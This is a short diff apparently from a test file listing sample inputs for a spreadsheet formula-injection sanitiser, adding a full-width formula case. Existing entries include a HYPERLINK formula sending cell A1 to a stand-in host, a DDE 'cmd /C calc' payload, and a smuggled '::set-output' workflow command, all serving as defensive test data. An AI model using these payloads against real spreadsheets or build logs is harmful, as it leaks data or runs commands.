@@ -13,6 +13,7 @@ TEXTS = {
     "formula": '=HYPERLINK("http://x.example/?"&A1,"click")',
     "formula behind a semicolon": "a;=1+1",
     "formula behind blanks": " \t@SUM(1)",
+    "full-width formula": "\uff1dHYPERLINK(1);\uff0b1",
     "minus": "-2+3+cmd|' /C calc'!A0",
     "lines": "a\r\n=1\n::set-output name=x::y",
     "long": "Ada " * 50,
